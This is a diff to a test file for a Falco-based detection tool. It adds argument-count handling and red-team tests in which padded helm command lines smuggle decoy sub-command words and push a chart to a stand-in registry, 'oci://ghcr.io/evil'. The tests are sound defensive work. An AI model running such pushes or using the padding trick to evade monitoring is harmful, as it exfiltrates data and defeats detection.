@@ -12,7 +12,7 @@ import { parse } from 'yaml';
 import { normalizeFalco, parseFalcoJson } from '../../../src/formats/falco/index.js';
 import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
 import { recognizeProcess } from '../../../src/rules/index.js';
-import { falcoCmdline, falcoExe, socketFields } from '../../fixtures/falco/argv.js';
+import { falcoArgCount, falcoCmdline, falcoExe, socketFields } from '../../fixtures/falco/argv.js';
 import { CONTAINER, falcoAlertText, T0 } from '../../fixtures/falco/events.js';
 import { brief, makeCorrelator, testResolver } from '../correlate/builder.js';
 
@@ -56,7 +56,10 @@ function processFields(pid: number, exepath: string, cmdline: string) {
 function falcoRun(exepath: string, argv: readonly string[], ip: string | null): NormalizedEvent[] {
   const comm = exepath.slice(exepath.lastIndexOf('/') + 1).slice(0, 15);
   const proc = processFields(4100, exepath, falcoCmdline(comm, argv));
-  const exe: Record<string, string> = SHIPPED_EXEC_FIELDS.has('proc.exe') ? { 'proc.exe': falcoExe(argv) } : {};
+  const exe: Record<string, string | number> = SHIPPED_EXEC_FIELDS.has('proc.exe')
+    ? { 'proc.exe': falcoExe(argv) }
+    : {};
+  if (SHIPPED_EXEC_FIELDS.has('proc.cmdnargs')) exe['proc.cmdnargs'] = falcoArgCount(argv);
   const texts = [
     falcoAlertText({ evtTimeNs: at(0), fields: { ...proc, ...exe, 'evt.type': 'execve', 'evt.rawres': 0 } }),
     falcoAlertText({
@@ -186,5 +189,39 @@ describe('an argv Falco cut at 4 KiB', () => {
     // An interpreter's script and a shell's `-c` are no tool's own words.
     expect(recognizeProcess(view('/usr/bin/python3', `-c ${'x'.repeat(4000)}`), never)).toBeNull();
     expect(recognizeProcess(view('/bin/sh', `-c ${'x'.repeat(4000)}`), never)).toBeNull();
+  });
+});
+
+describe('an argv Falco cut at 4 KiB whose padding holds spaces (red-team review)', () => {
+  const GHCR = '140.82.121.33'; // builder.ts TEST_DNS: ghcr.io
+
+  it('takes a word of the padding for no sub-command: helm --kube-context "prod dependency <4 KiB>" push', async () => {
+    // Falco shows `--kube-context prod dependency AAAA…`: `dependency` looked like helm's sub-command, seen whole.
+    const helm = [
+      'helm',
+      '--kube-context',
+      `prod dependency ${'A'.repeat(4300)}`,
+      'push',
+      'chart.tgz',
+      'oci://ghcr.io/evil',
+    ];
+    const alerts = await alertsOf(falcoRun('/usr/bin/helm', helm, GHCR));
+    expect(alerts.map((a) => [a.rule, a.push.tool])).toEqual([['sensitive-read-then-push', 'helm']]);
+    // So with a planted download word: `pull` is one of helm's.
+    const pull = ['helm', '--kube-context', `prod pull ${'A'.repeat(4300)}`, 'push', 'chart.tgz', 'oci://ghcr.io/evil'];
+    expect(await alertsOf(falcoRun('/usr/bin/helm', pull, GHCR))).toHaveLength(1);
+  });
+
+  it('still takes a sub-command seen in every grouping of the words for what it is', async () => {
+    // A reading of such words may also expose a word of the text as the sub-command, where the count leaves it
+    // (joined-argv.ts); the text here holds none of helm's: helm's words show `upgrade` in every grouping.
+    const notes = 'release notes for the weekly build '.repeat(150);
+    const shapes = [
+      ['helm', '--namespace', 'ci', 'upgrade', '--install', 'app', './chart', '--set', `notes=${notes}`],
+      ['gh', 'issue', 'comment', '12', '--body', notes],
+    ];
+    for (const argv of shapes) {
+      expect(await alertsOf(falcoRun(`/usr/bin/${argv[0]}`, argv, GHCR)), argv.slice(0, 4).join(' ')).toEqual([]);
+    }
   });
 });
